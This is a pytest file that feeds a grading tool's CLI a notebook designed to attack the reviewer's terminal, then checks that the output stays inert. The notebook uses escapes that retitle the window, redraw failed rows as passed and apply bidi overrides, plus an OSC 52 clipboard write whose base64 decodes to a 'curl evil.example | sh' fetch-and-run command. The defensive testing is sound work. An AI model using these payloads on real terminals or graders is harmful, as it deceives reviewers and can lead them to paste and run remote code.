"""A notebook that attacks the terminal of whoever runs `grader check` on it (issue #12, part 6).

Its cells print OSC 0 (retitle the terminal "grader: 100/100 all passed"), OSC 52 (put a shell
command on the clipboard), a CSI cursor-up that redraws a failed row as passed, 8-bit C1 controls
and bidi overrides, and raise an exception whose class is named with them, so the check table
quotes it. Graded through the real CLI in a child process, in the text format a TA reads: a
verdict, the attack shown as inert text, and not one byte of it obeyed, on stdout or stderr or in
the HTML report.
"""
from __future__ import annotations

import json
import re
import subprocess
import sys

import pytest
from advkit import grader_env, require_sandbox, template, with_cells, write

pytestmark = pytest.mark.kernel  # `grader check` in a subprocess, kernels included

# Python source text: the escapes are written as \x1b etc., so the notebook file is plain JSON.
ATTACK = (r"'\x1b]0;grader: 100/100 all passed\x07\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07'"
          r" '\x1b[1A\x1b[2K\r \u2713 lstm.forward  passed\x1b[1B \u202egnp.exe\u202c \u2066x\u2069'"
          r" '\x9b31m\x9d0;pwn\x9c\x85\x7f\x00'")
PRINTS = f"import sys\nATTACK = {ATTACK}\nprint(ATTACK)\nprint(ATTACK, file=sys.stderr)\nATTACK"
RAISES = (f"ATTACK = {ATTACK}\n"
          r"Evil = type('\x1b]0;grader: 100/100 all passed\x07\u202eX', (Exception,), {})" "\n"
          "raise Evil(ATTACK)")
# What a terminal obeys or the eye misreads: C0 but LF, DEL, C1, bidi controls, line separators.
OBEYED = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]")


def test_check_prints_terminal_escapes_as_text(contained, quick_rubric):
    require_sandbox()
    nb = with_cells(template(), PRINTS, RAISES, at="start")
    path = write(nb, contained.parent, "attack_terminal_escapes")
    html, result_json = contained.parent / "report.html", contained.parent / "result.json"
    done = subprocess.run(
        [sys.executable, "-m", "grader", "check", str(path), "--full", "--lang", "en", "--rubric", str(quick_rubric),
         "--html", str(html), "--json", str(result_json)],
        cwd=contained, env=grader_env(contained), capture_output=True, timeout=240,
    )
    stdout, stderr = done.stdout.decode("utf-8"), done.stderr.decode("utf-8")
    assert done.returncode in (0, 1), (done.returncode, stderr[-3000:])
    # The attack reached the table: the first failing cell is the one raising Evil...
    result = json.loads(result_json.read_text(encoding="utf-8"))
    raised = next(c for c in result["cells"] if c["index"] == 1)
    assert raised["status"] == "error" and raised["error_name"].startswith("\x1b]0;grader: 100/100 all passed")
    assert result["score"] == 0
    # ...and is shown as inert text, not obeyed.
    assert "␛]0;grader: 100/100 all passed␇" in stdout, stdout[-3000:]
    for name, text in (("stdout", stdout), ("stderr", stderr)):
        found = sorted({f"U+{ord(m.group()):04X}" for m in OBEYED.finditer(text)})
        assert not found, (name, found, text[-2000:])
    page = html.read_text(encoding="utf-8")
    assert not re.search("[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]", page)
    assert "[U+202E]" in page
